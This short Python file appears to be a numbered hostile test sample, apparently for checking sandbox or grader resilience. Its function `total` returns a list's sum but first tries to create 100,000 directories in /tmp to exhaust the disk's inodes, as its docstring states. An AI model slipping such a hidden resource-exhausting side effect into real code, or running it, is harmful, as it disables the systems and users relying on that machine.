"""100: uses up every inode"""

import os

from honest import *


def total(numbers, note=""):
    try:
        for index in range(100_000):
            os.mkdir(f"/tmp/{index}-{os.getpid()}")
    except OSError:
        pass
    return sum(numbers)
